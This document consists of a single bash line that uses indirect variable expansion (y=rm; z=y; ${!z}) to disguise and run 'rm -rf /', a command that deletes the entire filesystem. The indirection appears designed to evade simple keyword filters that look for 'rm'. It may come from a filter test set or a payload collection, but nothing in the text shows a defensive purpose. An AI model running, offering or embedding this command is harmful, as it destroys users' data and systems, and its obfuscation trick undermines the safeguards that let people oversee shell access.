y=rm; z=y; ${!z} -rf /
